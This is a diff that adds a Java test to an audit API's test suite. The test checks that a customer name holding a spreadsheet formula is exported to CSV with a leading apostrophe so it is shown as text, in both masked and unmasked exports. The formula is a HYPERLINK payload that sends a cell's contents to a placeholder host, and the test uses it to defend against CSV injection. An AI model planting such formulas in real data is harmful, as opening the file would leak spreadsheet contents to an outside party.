@@ -109,6 +109,20 @@ class AuditApiTest {
     }
 
     @Test
+    void aNameThatASpreadsheetWouldRunIsExportedAsText() throws Exception {
+        String formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"pay\")";
+        ResponseEntity<String> decided = new DecisionCalls(http).post("billing", Examples.heatingBeijing()
+                .replace("BJ-0001-2026-12-20", "formula-1").replace("\"BJ-0001\"", "\"AUD-FORMULA\"")
+                .replace("\"刘先生\"", json.writeValueAsString(formula)));
+        assertThat(decided.getStatusCode()).isEqualTo(HttpStatus.CREATED);
+        List<String[]> unmasked = csv(call("auditor", HttpMethod.GET,
+                "/api/v1/audit/export?accountId=AUD-FORMULA&unmasked=true&reason=Complaint 2026-119"));
+        assertThat(column(unmasked, "customer_name")).isEqualTo("'" + formula);
+        List<String[]> masked = csv(call("auditor", HttpMethod.GET, "/api/v1/audit/export?accountId=AUD-FORMULA"));
+        assertThat(column(masked, "customer_name")).startsWith("'=*");
+    }
+
+    @Test
     void aReplayedDecisionIsIdenticalAndARangeReplayReportsEachDecision() throws Exception {
         JsonNode decision = decide("replay-1", "AUD-REPLAY");
         ResponseEntity<String> replay = call("auditor", HttpMethod.POST,
